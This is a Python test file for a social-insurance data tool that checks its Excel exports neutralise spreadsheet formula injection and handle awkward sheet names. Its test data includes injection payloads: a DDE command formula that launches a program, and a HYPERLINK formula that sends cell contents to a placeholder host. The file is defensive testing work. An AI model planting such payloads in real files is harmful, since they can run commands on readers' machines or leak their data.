"""Text that a spreadsheet would run as a formula is stored as text in every workbook yibao writes.

A bureau's file (or a clerk) can put ``=HYPERLINK(…)``, ``+1+2``, ``-3+4``, ``@SUM(…)``, a tab or a
carriage return at the start of a name, village, township or household number. Each export is written
with such text and opened again with openpyxl: the cell is text (``data_type`` ``'s'``) with Excel's
quote prefix (so it stays text when a clerk edits it), and its value is the text as it came.
"""

from __future__ import annotations

import io
import json
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import polars as pl
from openpyxl import load_workbook
from openpyxl.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from yibao.app.coverage import Coverage, Duplicate, GapEntry, GapList
from yibao.app.enrolment_workbook import write_coverage_workbook, write_gap_workbook
from yibao.app.push_list import write_push_list
from yibao.interfaces.workbooks.identity_files import ERROR_SHEET, write_error_workbook
from yibao.interfaces.workbooks.mapping import load_mapping
from yibao.interfaces.workbooks.sheets import read_sheet
from yibao.interfaces.workbooks.validate import validate
from yibao.policy.coverage import CoverageRow
from yibao.reports.catalogue import CATALOGUE, build_reports
from yibao.reports.tables import INSTITUTION_SCHEMA, PEOPLE_SCHEMA, Context, ReportMeta
from yibao.reports.workbook import workbook_bytes
from yibao.rules.claims import SCHEMA, Place
from yibao.store.monitoring_tables import WarningCase
from yibao.store.tables import Person

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"点击核实")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-3+4",
    "@SUM(A1:A9)",
    "\t=1+1",
    "#N/A",
)
CR = "\r=1+1"
"""A carriage return first: XML reads a bare CR as a line feed (Excel too), so it comes back as ``\\n=1+1``."""


def _cells(ws: Worksheet) -> list[Cell]:
    return [c for row in ws.iter_rows() for c in row if c.value is not None]


def assert_text(ws: Worksheet, text: str) -> None:
    """Some cell of ``ws`` holds ``text`` (or, for a leading CR, the same with LF), stored as text with a quote prefix."""
    wanted = {text, text.replace("\r", "\n")}
    hits = [c for c in _cells(ws) if c.value in wanted]
    assert hits, (text, [c.value for c in _cells(ws)][:60])
    for c in hits:
        assert c.data_type == "s", (text, c.coordinate, c.data_type)
        assert c.quotePrefix, (text, c.coordinate)
    assert not [c.coordinate for c in _cells(ws) if c.data_type == "f"], "a formula was written"


def _warning(i: int, text: str) -> tuple[WarningCase, Person]:
    now = datetime(2022, 6, 1, tzinfo=UTC)
    w = WarningCase(
        id=i, identity="dibao", measure_amt=1_000_000, threshold_amt=500_000, excess_amt=500_000, medfee_sumamt=2_000_000,
        psn_part_amt=1_000_000, hh_self_pay=None, setl_ids=json.dumps([text]), status="pushed", at_risk=None,
        bureau="民政", recorded_at=now, updated_at=now,
    )  # fmt: skip
    p = Person(psn_no=f"P{i}", certno="53090219620704002X", psn_name=text, village=text, hh_no=text, township="博尚镇")
    return w, p


def test_push_list_keeps_bureau_text_as_text() -> None:
    buf = io.BytesIO()
    write_push_list([_warning(i, text) for i, text in enumerate((*FORMULAS, CR), start=1)], buf, period_label="2022-05")
    ws = load_workbook(io.BytesIO(buf.getvalue()))["博尚镇"]
    for text in (*FORMULAS, CR):
        assert_text(ws, text)


def test_push_list_township_named_like_a_formula() -> None:
    w, p = _warning(1, "张三")
    p.township = "=1+1"
    buf = io.BytesIO()
    write_push_list([(w, p)], buf, period_label="2022-05")
    book = load_workbook(io.BytesIO(buf.getvalue()))
    assert book.sheetnames == ["=1+1"]
    title = book["=1+1"]["A1"]
    assert title.data_type == "s" and str(title.value).startswith("=1+1 ")


def _gap(i: int, text: str) -> GapEntry:
    return GapEntry(f"P{i}", text, "530902********002X", "2", date(1962, 7, 4), text, text, text, "dibao", None)


def test_gap_list_keeps_bureau_text_as_text(tmp_path: Path) -> None:
    texts = (*FORMULAS, CR)
    gaps = GapList(2022, date(2022, 6, 30), None, None, tuple(_gap(i, t) for i, t in enumerate(texts)))
    out = tmp_path / "gaps.xlsx"
    write_gap_workbook(out, gaps)
    book = load_workbook(out)
    for ws in book.worksheets[:2]:  # the list and the summary by township (the about sheet has no bureau text)
        for text in texts:
            assert_text(ws, text)


def test_coverage_workbook_keeps_bureau_text_as_text(tmp_path: Path) -> None:
    texts = (*FORMULAS, CR)
    row = CoverageRow("all", 10, 8, 1)
    cov = Coverage(2022, date(2022, 6, 30), row, CoverageRow("low_income", 4, 3, 1), (), {})
    twice = tuple(
        Duplicate("resident_twice", f"P{i}", t, "530902********002X", t, t, (i, i + 100), ("390",)) for i, t in enumerate(texts)
    )
    out = tmp_path / "coverage.xlsx"
    write_coverage_workbook(out, cov, None, twice)
    sheet = load_workbook(out).worksheets[-1]  # 重复参保: the people, their townships and villages
    for text in texts:
        assert_text(sheet, text)


def test_error_workbook_keeps_bureau_text_as_text(tmp_path: Path) -> None:
    # a 民政 roster whose names and villages look like formulas, and whose ID numbers are bad (so every row is listed)
    rows = [f"{i},临翔区,{_csv(t)},{_csv(t)},{_csv(t)},53090219620704,农村低保,2022-01-01" for i, t in enumerate((*FORMULAS, CR))]
    path = tmp_path / "民政.csv"
    path.write_text(
        "序号,县（区）,村（社区）,家庭编号,姓名,身份证号码,救助类别,享受开始日期\n" + "\n".join(rows) + "\n", encoding="utf-8"
    )
    mapping = load_mapping("民政")
    sheet = read_sheet(path, mapping)
    checked = validate(sheet, mapping)
    assert checked.errors
    out = write_error_workbook(checked.errors, tmp_path / "errors.xlsx", sheet=sheet, source="民政")
    book = load_workbook(out)
    for text in (*FORMULAS, CR):
        assert_text(book.worksheets[1], text)  # the red-marked copy of the sheet
    # and the list of bad cells, when the bad cell itself looks like a formula
    named = [e for e in checked.errors if e.column == "身份证号码"]
    assert named
    bad_names = tmp_path / "names.csv"
    bad_names.write_text(
        "序号,村（社区）,姓名,身份证号码,救助类别,享受开始日期\n1,那招村,张三,530902196207040026,=2+2,2022-01-01\n",
        encoding="utf-8",
    )
    sheet = read_sheet(bad_names, mapping)
    checked = validate(sheet, mapping)
    out = write_error_workbook(checked.errors, tmp_path / "errors2.xlsx", sheet=sheet, source="民政")
    book = load_workbook(out)
    assert_text(book[ERROR_SHEET], "=2+2")
    assert_text(book.worksheets[1], "=2+2")


def _csv(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _claim(i: int, code: str) -> dict[str, Any]:
    amounts = dict.fromkeys(k for k, v in SCHEMA.items() if v == pl.Int64)
    return {k: 0 for k in amounts} | {
        "setl_id": f"S{i}", "psn_no": f"P{i}", "med_type": "21", "line": "inpatient", "identity": "dibao",
        "fixmedins_code": code, "setl_date": date(2022, 3, 10), "year": 2022, "month": "2022-03", "medfee_sumamt": 100_000,
    }  # fmt: skip


def test_report_workbook_keeps_institution_names_as_text() -> None:
    # the institutions report names each hospital as the registry has it (from a hospital's own system)
    texts = (*FORMULAS, CR)
    codes = [f"H{i:011d}" for i in range(len(texts))]
    claims = pl.DataFrame([_claim(i, code) for i, code in enumerate(codes)], schema=SCHEMA)
    names = pl.DataFrame({"fixmedins_code": codes, "fixmedins_name": list(texts)}, schema=INSTITUTION_SCHEMA)
    meta = ReportMeta(date(2022, 1, 1), date(2022, 12, 31), Place(township="=1+1"), "batch", "anhui-huaibei-2022")
    institutions = next(r for r in CATALOGUE if r.name == "institutions")
    rs = build_reports(claims, pl.DataFrame(schema=PEOPLE_SCHEMA), names, meta, Context(), (institutions,))
    book = load_workbook(io.BytesIO(workbook_bytes(rs, "zh")))
    for text in texts:
        assert_text(book[book.sheetnames[1]], text)


def test_the_writer_helper_leaves_other_values_alone() -> None:
    from openpyxl import Workbook

    from yibao.core.xlsx import FORMULA_LEAD, cell, line

    wb = Workbook()
    ws = wb.active
    plain: list[Any] = ["张三", "1+1", 12, 3.5, None, date(2022, 1, 1), "a=b"]
    for col, v in enumerate(plain, start=1):
        cell(ws, 1, col, v)
    ws.append(line(ws, plain))
    buf = io.BytesIO()
    wb.save(buf)
    back = load_workbook(io.BytesIO(buf.getvalue())).active
    for r in (1, 2):
        got = [c.value for c in back[r]]
        assert got[:5] == ["张三", "1+1", 12, 3.5, None] and got[6] == "a=b"
        assert not any(c.quotePrefix for c in back[r])
    assert set(FORMULA_LEAD) == {"=", "+", "-", "@", "\t", "\r"}


def test_push_list_townships_with_characters_excel_refuses_in_a_sheet_name() -> None:
    # openpyxl refused "博尚/镇" as a sheet name: the export was a 500 (web and API) and a traceback (CLI)
    towns = ["博尚/镇", "博尚_镇", "章驮\\乡?", "勐*库:镇", "[忙畔]", "'", "邦东乡" * 12]
    rows = []
    for i, town in enumerate(towns, start=1):
        w, p = _warning(i, "张三")
        p.township = town
        rows.append((w, p))
    buf = io.BytesIO()
    write_push_list(rows, buf, period_label="2022-05")
    book = load_workbook(io.BytesIO(buf.getvalue()))
    assert len(book.sheetnames) == len(towns) == len({n.casefold() for n in book.sheetnames})
    for name in book.sheetnames:
        assert 0 < len(name) <= 31 and not set(name) & set("[]:*?/\\"), name
    # each sheet still names its township in full in its title row
    titles = sorted(str(ws["A1"].value).split(" 高额")[0] for ws in book.worksheets)
    assert titles == sorted(towns)
